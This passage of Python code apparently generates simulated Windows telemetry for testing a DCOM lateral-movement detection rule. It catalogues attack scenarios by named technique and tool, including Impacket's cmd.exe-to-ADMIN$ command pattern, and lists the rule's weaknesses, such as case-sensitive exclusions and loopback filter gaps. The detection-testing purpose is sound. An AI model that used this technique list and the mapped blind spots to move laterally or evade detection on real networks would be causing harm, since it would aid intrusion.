    a = ctx.spawn(ctx.slot("dcomlaunch"), "dllhost.exe", r"C:\Windows\system32\DllHost.exe /Processid:{7A9C2E11-3B4D-4E5F-8A6B-1C2D3E4F5A6B}",
                  ctx.t0, acct=svc, logon=logon, integrity="High", session=0, pid=pid)
    t = ctx.t0
    for _ in range(int(ctx.rng.integers(2, 6))):
        t = ctx.after(t, 1000, 40_000)
        ctx.inbound(a, t, str(ctx.rng.choice(APP_TIER)), ctx.ephemeral(False), service_port(ctx.estate.devices[ctx.dev].device_id, "b6"))
    b_time = max(ctx.later(ctx.t0, 0.8), ctx.after(t, 60_000, 120_000))
    b = ctx.spawn(ctx.slot("dcomlaunch", b_time), "dllhost.exe",
                  r"C:\Windows\system32\DllHost.exe /Processid:{D1C4B0E2-6F7A-4B8C-9D0E-2F3A4B5C6D7E}", b_time, acct=svc, logon=logon,
                  integrity="High", session=0, pid=pid)
    ctx.spawn(b, "regsvr32.exe", r'"C:\Windows\system32\regsvr32.exe" /s "C:\Program Files\Contoso\OrderService\OrderPlugin.dll"',
              ctx.after(b_time, 1000, 10_000))
    ctx.spawn(b, "WerFault.exe", rf"C:\Windows\system32\WerFault.exe -u -p {pid} -s 508", ctx.after(b_time, 12_000, 30_000))


def _server_crash(ctx: Ctx, image: str) -> None:
    """A WMI callback sink launched for a management query (its own unsecapp.exe, created in the window, so the
    seed can see its DcomLaunch parent even when the all-day sink started before the recording) takes a few
    callbacks from workstations and crashes."""
    t = ctx.after(ctx.t0, 0, 500)
    server = ctx.spawn(ctx.slot("dcomlaunch", t), "unsecapp.exe", r"C:\Windows\system32\wbem\unsecapp.exe -Embedding", t,
                       acct=SYSTEM, logon=SYSTEM_LOGON, integrity="System", elevation="TokenElevationTypeDefault", session=0)
    port, call, sources = ctx.dyn_port(), ctx.after(t, 200, 2_000), _workstation_ips(ctx)
    for _ in range(int(ctx.rng.integers(1, 4))):
        ctx.inbound(server, call, str(ctx.rng.choice(sources)), ctx.ephemeral(False), port)
        call = ctx.after(call, 200, 5_000)
    t = ctx.after(call, 20_000, 60_000)
    crash = ctx.spawn(server, image, rf"C:\Windows\system32\{image} -u -p {ctx.pid_of(server)} -s {int(ctx.rng.integers(300, 900))}", t)
    ctx.file(crash, ctx.after(t, 500, 3000), r"C:\ProgramData\Microsoft\Windows\WER\Temp\WER7A3F.tmp.WERInternalMetadata.xml")


def b7a_server_crash(ctx: Ctx) -> None:
    _server_crash(ctx, "WerFault.exe")


def b7b_server_crash_case(ctx: Ctx) -> None:
    _server_crash(ctx, "werfault.exe")


# --- the catalogue ----------------------------------------------------------------------------------------------------

_SEED_CHILD = "a DcomLaunch child accepts the remote bind and spawns a direct child"

SCENARIOS: tuple[Scenario, ...] = (
    Scenario("A1", "MMC20 via Impacket dcomexec.py", LATERAL, True, TP, f"mmc.exe: {_SEED_CHILD} (cmd.exe /Q /c ... 1> \\\\127.0.0.1\\ADMIN$\\__<ts>)",
             a1_mmc20_impacket, duration_s=1200, rate=1.5),
    Scenario("A2", "MMC20 via NetExec mmcexec", LATERAL, True, TP, f"mmc.exe: {_SEED_CHILD} (one cmd.exe, then Quit)",
             a2_mmc20_netexec, duration_s=60, rate=1.0),
    Scenario("A3", "MMC20 via PowerShell from a compromised workstation", LATERAL, True, TP,
             f"mmc.exe: {_SEED_CHILD}; the source's powershell.exe and RPCSS rows are on the source device", a3_mmc20_powershell,
             source="foothold", duration_s=60, rate=0.5),
    Scenario("A4", "ShellWindows", LATERAL, True, FN, "explorer.exe serves the object: its parent is userinit.exe, stage (a) fails",
             a4_shellwindows, target="workstation", duration_s=120, rate=1.0),
    Scenario("A5", "ShellBrowserWindow", LATERAL, True, FN,
             "explorer.exe owns the inbound and the child; the transient rundll32 has neither", a5_shellbrowserwindow,
             target="workstation", duration_s=120, rate=0.4),
    Scenario("A6", "Excel DDEInitiate", LATERAL, True, TP, f"EXCEL.EXE: {_SEED_CHILD} (cmd /c ...; plus benign Click-to-Run children)",
             a6_excel_dde, source="foothold", duration_s=60, rate=0.5),
    Scenario("A7", "Excel RegisterXLL", LATERAL, True, FN,
             "the XLL runs inside EXCEL.EXE, which spawns no child process (Excel exits, the WER service starts)", a7_excel_registerxll,
             source="foothold", duration_s=60, rate=0.3),
    Scenario("A8", "Excel ExecuteExcel4Macro shellcode", LATERAL, True, TP,
             "fires by accident: the shellcode runs in memory but Excel's benign AppVDllSurrogate64.exe children match",
             a8_excel4_shellcode, source="foothold", duration_s=60, rate=0.3),
    Scenario("A8b", "Excel ExecuteExcel4Macro EXEC", LATERAL, True, TP, f"EXCEL.EXE: {_SEED_CHILD}", a8b_excel4_exec,
             source="foothold", duration_s=60, rate=0.3),
    Scenario("A9", "Excel ActivateMicrosoftApp", LATERAL, True, TP, f"EXCEL.EXE: {_SEED_CHILD} (a planted FOXPROW.EXE)",
             a9_excel_activatemicrosoftapp, source="foothold", duration_s=120, rate=0.2),
    Scenario("A10", "Outlook CreateObject shell", LATERAL, True, TP, f"OUTLOOK.EXE: {_SEED_CHILD}", a10_outlook_shell,
             source="foothold", duration_s=60, rate=0.3),
    Scenario("A10b", "Outlook ScriptControl in memory", LATERAL, True, FN,
             "OUTLOOK.EXE accepts the bind and loads script/CLR DLLs (msscript.ocx, jscript.dll, clr.dll) but spawns no child "
             "process", a10b_outlook_scriptcontrol,
             source="foothold", duration_s=60, rate=0.2),
    Scenario("A11", "Visio/Word automation spawning a shell", LATERAL, True, TP, f"VISIO.EXE/WINWORD.EXE: {_SEED_CHILD}",
             a11_visio_word, source="foothold", duration_s=60, rate=0.3),
    Scenario("A12", "InternetExplorer.Application iertutil.dll hijack", LATERAL, True, FN,
             "ielowutil.exe accepts but has no child; the payload's parent iexplore.exe has no inbound; the tab's parent is "
             "iexplore.exe", a12_ie_iertutil, target="win10", source="foothold", duration_s=60, rate=0.3),
    Scenario("A13", "LethalHTA (mshta.exe) with a child", LATERAL, True, TP, f"mshta.exe: {_SEED_CHILD}", a13_lethalhta_child,
             duration_s=60, rate=0.2),
    Scenario("A13b", "LethalHTA (mshta.exe) in memory", LATERAL, True, FN, "mshta.exe accepts the bind but spawns nothing",
             a13b_lethalhta_inmemory, duration_s=60, rate=0.2),
    Scenario("A14", "IMsiServer DCOM upload & execute", LATERAL, True, FN,
             "msiexec.exe /V is a service (parent services.exe): stage (a) fails", a14_imsiserver, duration_s=60, rate=0.2),
    Scenario("A15", "WMI Win32_Process.Create (neighbour technique)", WMI, True, FN,
             "the inbound goes to the Winmgmt svchost (parent services.exe); WmiPrvSE.exe has children but no inbound",
             a15_wmi_win32_process, duration_s=60, rate=0.5),
    Scenario("A16a", "Failed attempt: firewall blocks :135", LATERAL, True, TN,
             "nothing reaches the target; only the source's failed connections", a16a_blocked, source="foothold", duration_s=30,
             rate=0.3),
    Scenario("A16b", "Failed attempt: access denied", LATERAL, True, TN, "network logon and :135 only, no server, no child",
             a16b_access_denied, duration_s=30, rate=0.3),
    Scenario("A16c", "Failed attempt: ShellWindows against a host with no desktop", LATERAL, True, TN,
             "network logon and :135 only", a16c_no_desktop, target="server", duration_s=30, rate=0.3),
    Scenario("A17", "MMC20 session kept open for hours", LATERAL, True, TP,
             "over the whole file the server's creation row is present, so every later command fires; with a rule lookback "
             "shorter than the session the late commands would be FN (W4)", a17_long_session, duration_s=6 * 3600, rate=0.2),
    Scenario("B2", "WMI management query (135 + WmiPrvSE)", "benign", False, TN,
             "the inbound rows belong to RPCSS/Winmgmt (parent services.exe); WmiPrvSE.exe accepts nothing", b2_wmi_query,
             source="mgmt", duration_s=30, rate=2.0),
    Scenario("B3a", "unsecapp.exe WMI async callbacks on a management server", "benign", False, TN,
             "a DcomLaunch child accepting remote connections all day, with no child process", b3a_unsecapp, target="mgmt",
             duration_s=600, rate=0.1, per="role"),
    Scenario("B3b", "COM+ application child long after its last remote call", "benign", False, FP,
             "dllhost.exe /Processid (its own instance, activated by an app-tier host) is a DcomLaunch child with remote "
             "inbound; its child comes ~0.9 x the instance's span after the last call to it (hours in a day-long run); "
             "the seed has no time window (W1)",
             b3b_complus_late_child, target="complus", source="apptier", duration_s=3 * 3600, rate=0.1, per="role"),
    Scenario("B3c", "Remote Office automation on a reporting server", "benign", False, FP,
             "EXCEL.EXE /automation launched remotely by svc-report spawns Click-to-Run/print helpers (W10)",
             b3c_office_automation, target="report", source="apptier", duration_s=180, rate=1.0, per="role"),
    Scenario("B3d", "Remote Assistance offer (raserver.exe)", "benign", False, TN,
             'excluded by InitiatingProcessFileName != "raserver.exe"', b3d_remote_assistance, target="workstation",
             source="helpdesk", duration_s=60, rate=0.02, per="role"),
    Scenario("B3e", "Remote Assistance offer (RAServer.exe on-disk case)", "benign", False, FP,
             'the exclusion is case-sensitive: "RAServer.exe" != "raserver.exe" (W6)', b3e_remote_assistance_case,
             target="workstation", source="helpdesk", duration_s=60, rate=0.02, per="role"),
    Scenario("B4a", "Local DCOM over 127.0.0.1", "benign", False, TN, 'RemoteIP contains "127.0.0.1"', _loopback("B4a"),
             target="loopdcom", source="local", duration_s=60, rate=0.05, per="role"),
    Scenario("B4b", "Local DCOM over ::ffff:127.0.0.1", "benign", False, TN, 'the IPv4-mapped form still contains "127.0.0.1"',
             _loopback("B4b"), target="loopdcom", source="local", duration_s=60, rate=0.05, per="role"),
    Scenario("B4c", "Local DCOM over ::1", "benign", False, FP, "IPv6 loopback passes the substring filter (W5)", _loopback("B4c"),
             target="loopdcom", source="local", duration_s=60, rate=0.05, per="role"),
    Scenario("B4d", "Local DCOM over 127.0.0.2", "benign", False, FP, "another 127/8 address passes the filter (W5)",
             _loopback("B4d"), target="loopdcom", source="local", duration_s=60, rate=0.05, per="role"),
    Scenario("B4e", "Local DCOM over the host's own LAN IP", "benign", False, FP, "RemoteIP == LocalIP is not excluded (W5)",
             b4e_own_ip, target="loopdcom", source="local", duration_s=60, rate=0.05, per="role"),
    Scenario("B4f", "Local DCOM over the host's IPv6 link-local address", "benign", False, FP, "fe80:: self-traffic is not excluded (W5)",
             b4f_link_local, target="loopdcom", source="local", duration_s=60, rate=0.05, per="role"),
    Scenario("B5", "PowerShell remoting (WinRM) into a server", "benign", False, TN,
             "the inbound 5985 is owned by System; wsmprovhost.exe has children but no inbound", b5_winrm, target="server",
             source="mgmt", duration_s=120, rate=0.02, per="role"),
    Scenario("B6", "PID reuse between two COM+ dllhost.exe instances", "benign", False, FP,
             "instance B's children join instance A's remote connection on (PID, FileName) alone (W2)", b6_pid_reuse,
             target="complus", duration_s=4 * 3600, rate=0.05, per="role"),
    Scenario("B7a", "DCOM server crash (WerFault.exe)", "benign", False, TN, 'the child is exactly "WerFault.exe", excluded',
             b7a_server_crash, target="mgmt", duration_s=120, rate=0.05, per="role"),
    Scenario("B7b", "DCOM server crash reported as werfault.exe", "benign", False, FP,
             '"werfault.exe" != "WerFault.exe" (case-sensitive, W6/W7)', b7b_server_crash_case, target="mgmt", duration_s=120,
             rate=0.05, per="role"),
)
BY_ID = {s.id: s for s in SCENARIOS}
